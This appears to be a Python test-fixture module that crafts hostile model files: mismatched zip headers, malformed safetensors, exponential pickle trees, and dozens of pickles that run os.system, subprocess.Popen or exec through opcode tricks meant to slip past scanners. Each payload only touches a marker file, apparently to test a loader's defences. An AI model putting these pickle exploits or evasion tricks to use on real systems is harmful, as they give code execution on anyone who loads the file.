"""Makers of bad files, from the formats' specifications: zip records by hand, pickles by opcode, safetensors by byte."""

import json
import struct
import zipfile
import zlib

PROTO = b"\x80\x02"
REBUILD = b"ctorch._utils\n_rebuild_tensor_v2\n"
HOOKS = b"ccollections\nOrderedDict\n)R"


def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value):
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def numbers(values):
    return b"(" + b"".join(map(number, values)) + b"t"


def storage(key="0", numel=3, cls="FloatStorage", place="cpu"):
    return b"(" + text("storage") + f"ctorch\n{cls}\n".encode() + text(key) + text(place) + number(numel) + b"tQ"


def tensor(key="0", numel=3, shape=(3,), strides=(1,), offset=0, cls="FloatStorage"):
    """The opcodes of one tensor, as torch spells them but for the memo."""
    return REBUILD + b"(" + storage(key, numel, cls) + number(offset) + numbers(shape) + numbers(strides) + b"\x89" + HOOKS + b"tR"


def pickled(pairs):
    """A dict of (name, opcodes of its value)."""
    return PROTO + b"}(" + b"".join(text(name) + value for name, value in pairs) + b"u."


REAL = [("weight", tensor("0")), ("bias", tensor("1"))]
REAL_DATA = {"0": struct.pack("<3f", 1, 2, 3), "1": struct.pack("<3f", 4, 5, 6)}


def torch_zip(path, pickle, storages=None, method=zipfile.ZIP_STORED):
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("archive/data.pkl", pickle)
        archive.writestr("archive/byteorder", "little")
        for key, data in (REAL_DATA if storages is None else storages).items():
            archive.writestr(f"archive/data/{key}", data)
        archive.writestr("archive/version", "3\n")
    return path


class Record:
    """One zip record whose local and central headers may tell different stories."""

    def __init__(self, name, data=b"", **lies):
        self.name, self.data, self.lies = name.encode(), data, lies

    def header(self, side, at):
        told = {
            "name": self.name,
            "flags": 0,
            "method": 0,
            "crc": zlib.crc32(self.data),
            "packed": len(self.data),
            "size": len(self.data),
            "extra": b"",
            "header": at,
        }
        told |= {key.removeprefix(side + "_"): value for key, value in self.lies.items() if key.startswith(side + "_")}
        told |= {key: value for key, value in self.lies.items() if key in told}
        t = told
        common = struct.pack(
            "<HHHHHIIIHH",
            20,
            t["flags"],
            t["method"],
            0,
            33,
            t["crc"] & 0xFFFFFFFF,
            t["packed"],
            t["size"],
            len(t["name"]),
            len(t["extra"]),
        )
        if side == "local":
            return b"PK\x03\x04" + common + t["name"] + t["extra"]
        return b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 0, t["header"]) + t["name"] + t["extra"]


def raw_zip(path, records, *, prefix=b"", suffix=b"", comment=b"", count=None, end=b""):
    """An archive written by hand. `end` stands in front of the end record."""
    out, directory = bytearray(prefix), b""
    for record in records:
        directory += record.header("central", len(out))
        out += record.header("local", len(out)) + record.data
    start = len(out)
    out += directory + end
    n = len(records) if count is None else count
    out += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, n, n, len(directory), start, len(comment)) + comment + suffix
    path.write_bytes(bytes(out))
    return path


def good_records(pickle=None, **lies):
    """The records of a small good archive; `lies` go to the storage of `weight`."""
    return [
        Record("archive/data.pkl", pickled(REAL) if pickle is None else pickle),
        Record("archive/byteorder", b"little"),
        Record("archive/data/0", REAL_DATA["0"], **lies),
        Record("archive/data/1", REAL_DATA["1"]),
        Record("archive/version", b"3\n"),
    ]


def safetensors(path, header, data=b"", length=None):
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    path.write_bytes((len(raw) if length is None else length).to_bytes(8, "little") + raw + data)
    return path


def entry(begin=0, end=4, shape=(1,), dtype="F32"):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


def laugh(levels, container=b"]"):
    """A tree of 4 ** levels nodes in a few bytes: each level holds the one below four times. Left in memo 0."""
    if container == b"]":
        return b"]q\x00" + b"0](h\x00h\x00h\x00h\x00eq\x00" * levels
    return b"}q\x00" + b"0}(K\x01h\x00K\x02h\x00K\x03h\x00uq\x00" * levels


def command(marker):
    return text(f"touch {marker}")


# name -> the global that must be named, and the opcodes for a command
ATTACKS = {
    "GLOBAL REDUCE": ("os.system", lambda c: b"cos\nsystem\n" + c + b"\x85R"),
    "posix": ("posix.system", lambda c: b"cposix\nsystem\n" + c + b"\x85R"),
    "Python 2 name": ("builtins.eval", lambda c: b"c__builtin__\neval\n" + text("1") + b"\x85R"),
    "STACK_GLOBAL": ("os.system", lambda c: b"\x8c\x02os\x8c\x06system\x93" + c + b"\x85R"),
    "STACK_GLOBAL through the memo": ("os.system", lambda c: b"\x8c\x06systemq\x630\x8c\x02osh\x63\x93" + c + b"\x85R"),
    "INST": ("os.system", lambda c: b"(" + c + b"ios\nsystem\n"),
    "OBJ": ("os.system", lambda c: b"(cos\nsystem\n" + c + b"o"),
    "NEWOBJ": ("os.system", lambda c: b"cos\nsystem\n" + c + b"\x85\x81"),
    "NEWOBJ_EX": ("os.system", lambda c: b"cos\nsystem\n" + c + b"\x85}\x92"),
    "hidden by POP": ("os.system", lambda c: b"Ncos\nsystem\n" + c + b"\x85R0"),
    "OBJ hidden by POP": ("os.system", lambda c: b"N(cos\nsystem\n" + c + b"o0"),
    "hidden by POP_MARK": ("os.system", lambda c: b"N(cos\nsystem\n" + c + b"\x85R1"),
    "overwritten in the memo": ("os.system", lambda c: b"cos\nsystem\n" + c + b"\x85Rq\x630Nq\x63"),
    "a dict key": ("os.system", lambda c: b"}cos\nsystem\n" + c + b"\x85RNs"),
    "in a tuple in a list": ("os.system", lambda c: b"](cos\nsystem\n" + c + b"\x85RNt\x85a"),
    "BUILD state": ("os.system", lambda c: b"ccollections\nOrderedDict\n)R}" + text("a") + b"cos\nsystem\n" + c + b"\x85Rsb"),
    "after odd INT": ("os.system", lambda c: b"I0x10\n0cos\nsystem\n" + c + b"\x85R"),
    "after odd LONG": ("os.system", lambda c: b"L0x10L\n0cos\nsystem\n" + c + b"\x85R"),
    "after a NUL in INT": ("os.system", lambda c: b"I1\0x\n0cos\nsystem\n" + c + b"\x85R"),
    "after non-ASCII STRING": ("os.system", lambda c: b"S'\xc3\xa9'\n0cos\nsystem\n" + c + b"\x85R"),
    "named and not called": ("os.system", lambda c: b"cos\nsystem\n"),
    "dotted through torch": ("torch.serialization.os.system", lambda c: b"\x8c\x13torch.serialization\x8c\x09os.system\x93" + c + b"\x85R"),
    "dotted through a plain name": ("torch._utils._rebuild_tensor_v2.__globals__", lambda c: b"ctorch._utils\n_rebuild_tensor_v2.__globals__\n"),
    "io.open": ("io.open", lambda c: b"cio\nopen\n" + c + b"\x85R"),
    "pathlib.Path.touch": ("pathlib.Path.touch", lambda c: b"cpathlib\nPath.touch\ncpathlib\nPath\n" + c + b"\x85R\x85R"),
    "getattr chain": ("builtins.getattr", lambda c: b"cbuiltins\ngetattr\n(cos\npath\n" + text("os") + b"tR"),
    "torch.load": ("torch.load", lambda c: b"ctorch\nload\n" + c + b"\x85R"),
    "torch.hub.load": ("torch.hub.load", lambda c: b"ctorch.hub\nload\n" + c + b"\x85R"),
    "functools.partial": ("functools.partial", lambda c: b"cfunctools\npartial\ncos\nsystem\n\x85R"),
    "timeit": ("timeit.timeit", lambda c: b"ctimeit\ntimeit\n" + text("1") + b"\x85R"),
    "pip.main": ("pip.main", lambda c: b"cpip\nmain\n]\x85R"),
    "copyreg extension": ("copyreg.extension 7", lambda c: b"\x82\x07)R"),
    "a lookalike module": ("torch._utils._rebuild_tensor_v2 ", lambda c: b"ctorch._utils\n_rebuild_tensor_v2 \n)R"),
    "case": ("collections.ordereddict", lambda c: b"ccollections\nordereddict\n)R"),
}  # fmt: skip


def os_system(command, pushed):
    """A call of os.system by the spelling `pushed` of the function; the command is a Python 2 string, as protocol 0 has it."""
    return pushed + b"(S'" + command.encode() + b"'\ntR"


def stack_global(module, name):
    return b"\x8c" + bytes([len(module)]) + module.encode() + b"\x8c" + bytes([len(name)]) + name.encode() + b"\x93"


def nested(data):
    return b"B" + struct.pack("<I", len(data)) + data


OS_SYSTEM = b"cos\nsystem\n"


def touch(marker):
    """The text of protocol 0 that calls os.system, without its STOP."""
    return os_system(f"touch {marker}", OS_SYSTEM)


# whole pickles that C's pickle.load carries out, each leaving the file `marker`: name -> (what must be named, the pickle)
EXPLOITS = {
    "text of protocol 0": ("os.system", lambda m: touch(m) + b"."),
    "posix by its own name": ("posix.system", lambda m: os_system(f"touch {m}", b"cposix\nsystem\n") + b"."),
    "INST": ("os.system", lambda m: b"(S'touch " + str(m).encode() + b"'\nios\nsystem\n."),
    "OBJ": ("os.system", lambda m: b"(" + OS_SYSTEM + command(m) + b"o."),
    "OBJ and POP, so that no trace is left": ("os.system", lambda m: b"N(" + OS_SYSTEM + command(m) + b"o0."),
    "NEWOBJ": ("os.system", lambda m: b"cbuiltins\nlist\ncbuiltins\nmap\n" + OS_SYSTEM + b"]" + command(m) + b"a\x86\x81\x85R."),
    "NEWOBJ_EX": ("os.system", lambda m: b"cbuiltins\nlist\ncbuiltins\nmap\n" + OS_SYSTEM + b"]" + command(m) + b"a\x86}\x92\x85R."),
    "subprocess.Popen": ("subprocess.Popen", lambda m: PROTO + b"csubprocess\nPopen\n](" + text("touch") + text(str(m)) + b"e\x85R."),
    "STACK_GLOBAL": ("os.system", lambda m: b"\x80\x04" + stack_global("os", "system") + command(m) + b"\x85R."),
    "STACK_GLOBAL from memoised halves": ("os.system", lambda m: b"\x80\x04\x8c\x06system\x940\x8c\x02os\x940h\x01h\x00\x93" + command(m) + b"\x85R."),
    "memo written after POP": ("os.system", lambda m: b"\x80\x04\x8c\x06systemN0q\x050\x8c\x02osh\x05\x93" + command(m) + b"\x85R."),
    "MEMOIZE after DUP": ("os.system", lambda m: b"\x80\x04\x8c\x02os2\x940\x8c\x06system\x93" + command(m) + b"\x85R."),
    "memo overwritten before the call": ("os.system", lambda m: b"cbuiltins\nlen\nq\x010" + OS_SYSTEM + b"q\x010h\x01" + command(m) + b"\x85R."),
    "hidden behind POP_MARK": ("os.system", lambda m: b"N(" + OS_SYSTEM + command(m) + b"\x85R1."),
    "INT in base-0 spelling": ("os.system", lambda m: b"I0x10\n0" + touch(m) + b"."),
    "INT with underscores": ("os.system", lambda m: b"I1_0\n0" + touch(m) + b"."),
    "INT in binary": ("os.system", lambda m: b"I0b11\n0" + touch(m) + b"."),
    "LONG in base-0 spelling": ("os.system", lambda m: b"L0x10L\n0" + touch(m) + b"."),
    "STRING that is no ASCII": ("os.system", lambda m: b"S'\xc3\xa9'\n0" + touch(m) + b"."),
    "FRAME that ends inside an argument": ("os.system", lambda m: b"\x80\x04\x95\x02\0\0\0\0\0\0\0" + OS_SYSTEM + command(m) + b"\x85R."),
    "FRAME of nothing": ("os.system", lambda m: b"\x95\0\0\0\0\0\0\0\0" + OS_SYSTEM + command(m) + b"\x85R."),
    "dotted name through torch": ("torch.serialization.os.system", lambda m: b"\x80\x04" + stack_global("torch.serialization", "os.system") + command(m) + b"\x85R."),
    "dotted name through pathlib": ("pathlib.os.system", lambda m: b"\x80\x04" + stack_global("pathlib", "os.system") + command(m) + b"\x85R."),
    "io.open": ("io.open", lambda m: b"cio\nopen\n" + text(str(m)) + text("w") + b"\x86R."),
    "pathlib.Path.touch": ("pathlib.Path.touch", lambda m: b"\x80\x04" + stack_global("pathlib", "Path.touch") + b"cpathlib\nPath\n" + text(str(m)) + b"\x85R\x85R."),
    "exec by its Python 2 name": ("builtins.exec", lambda m: b"c__builtin__\nexec\n" + text(f"open({str(m)!r}, 'w')") + b"\x85R."),
    "getattr chain": ("builtins.getattr", lambda m: b"cbuiltins\ngetattr\ncimportlib\nimport_module\n" + text("os") + b"\x85R" + text("system") + b"\x86R" + command(m) + b"\x85R."),
    "operator.methodcaller": ("operator.methodcaller", lambda m: b"coperator\nmethodcaller\n" + text("system") + command(m) + b"\x86Rcimportlib\nimport_module\n" + text("os") + b"\x85R\x85R."),
    "dataclasses._create_fn": ("dataclasses._create_fn", lambda m: b"cdataclasses\n_create_fn\n(" + text("f") + b"]" + text(f"x=open({str(m)!r}, 'w')") + b"a]" + text("pass") + b"atR."),
    "spawnv_passfds": ("multiprocessing.util.spawnv_passfds", lambda m: b"cmultiprocessing.util\nspawnv_passfds\n(" + nested(b"/usr/bin/touch") + b"](" + nested(b"touch") + nested(str(m).encode()) + b"e)tR."),
    "an EXT code registered on the way": ("copyreg.add_extension", lambda m: b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\xf0tR0\x82\xf0" + command(m) + b"\x85R."),
    "BUILD that plants __setstate__": ("os.system", lambda m: PROTO + b"cargparse\nNamespace\n)\x81}" + text("__setstate__") + OS_SYSTEM + b"sb" + command(m) + b"b."),
    "BUILD that plants append": ("os.system", lambda m: PROTO + b"cargparse\nNamespace\n)\x81}" + text("append") + OS_SYSTEM + b"sb" + command(m) + b"a."),
    "BUILD on a class": ("argparse.Namespace itself", lambda m: b"cargparse\nNamespace\nN}" + text("__setstate__") + OS_SYSTEM + b"s\x86b0cargparse\nNamespace\n)\x81" + command(m) + b"b."),
    "a pickle in a byte string": ("os.system", lambda m: b"\x80\x04" + stack_global("pickle", "loads") + nested(touch(m) + b".") + b"\x85R."),
    "a pickle spelled as text": ("os.system", lambda m: PROTO + b"cpickle\nloads\nc_codecs\nencode\n" + text((touch(m) + b".").decode()) + text("latin1") + b"\x86R\x85R."),
    "a call, then damage": ("os.system", lambda m: touch(m) + b"\xff\xff"),
    "a call, then the end": ("os.system", lambda m: touch(m)),
    "a call whose arguments a harmless class holds": ("os.system", lambda m: PROTO + b"ccollections\ndefaultdict\n" + OS_SYSTEM + b"\x85R0" + touch(m) + b"."),
}  # fmt: skip
